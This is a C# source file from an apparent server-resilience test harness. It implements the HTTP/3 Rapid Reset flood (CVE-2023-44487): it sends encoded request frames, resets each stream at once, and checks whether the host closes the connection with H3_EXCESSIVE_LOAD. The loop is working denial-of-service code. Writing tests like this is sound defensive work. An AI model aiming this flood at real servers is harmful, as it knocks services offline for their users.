using System.Net;
using Net.Chaos.Judging;
using Net.Chaos.Running.Faults;
using Net.Chaos.Running.Hosts;

namespace Net.Chaos.Running.Attacks;

/// <summary>Requests that are begun and reset at once: cheap for who sends them, dear for who begins to serve each (CVE-2023-44487). The host must close the connection with H3_EXCESSIVE_LOAD.</summary>
internal static class RapidResetAttack
{
    private const string ApplicationProtocol = "h3";
    private const long ExcessiveLoad = 0x107;
    private const long RequestCancelled = 0x10c;
    private static readonly TimeSpan CloseLimit = TimeSpan.FromSeconds(5);

    // A control stream with empty SETTINGS (RFC 9114, section 6.2.1), and HEADERS of GET https://localhost/ from QPACK's static table (RFC 9204, appendix A).
    private static readonly byte[] Control = [0x00, 0x04, 0x00];
    private static readonly byte[] Request = [0x01, 0x10, 0x00, 0x00, 0xC0 | 17, 0xC0 | 23, 0xC0 | 1, 0x50, 0x09, .. "localhost"u8];

    /// <returns>1 when the host closed the connection for it, else 0.</returns>
    internal static async Task<long> RunAsync(FaultStage stage, IRunHost host, int count)
    {
        TransportConnection connection = await stage.Cast.Probe.ConnectAsync(IPEndPoint.Parse(host.EndPoint), ApplicationProtocol, stage.Cast.Clients[0].Identity, stage.Stop).ConfigureAwait(false);
        await using (connection.ConfigureAwait(false))
        {
            int taken = await SendAsync(connection, count, stage.Stop).ConfigureAwait(false);
            stage.Measures.NoteLargest(Figures.ResetsTaken, taken);
            try
            {
                ConnectionClose close = await connection.Closed.WaitAsync(CloseLimit, stage.TimeProvider, stage.Stop).ConfigureAwait(false);
                return close.ApplicationErrorCode == ExcessiveLoad ? 1 : 0;
            }
            catch (TimeoutException)
            {
                return 0;
            }
        }
    }

    private static async Task<int> SendAsync(TransportConnection connection, int count, CancellationToken cancellationToken)
    {
        int sent = 0;
        try
        {
            TransportStream control = await connection.OpenStreamAsync(StreamDirection.Unidirectional, cancellationToken: cancellationToken).ConfigureAwait(false);
            await control.Output.WriteAsync(Control, cancellationToken).ConfigureAwait(false);
            for (; sent < count && !connection.Closed.IsCompleted; sent++)
            {
                TransportStream stream = await connection.OpenStreamAsync(StreamDirection.Bidirectional, cancellationToken: cancellationToken).ConfigureAwait(false);
                await using (stream.ConfigureAwait(false))
                {
                    await stream.Output.WriteAsync(Request, cancellationToken).ConfigureAwait(false);
                    stream.Abort(RequestCancelled);
                }
            }
        }
        catch (TransportException)
        {
            // The connection is over: why is asked of the connection.
        }

        return sent;
    }
}
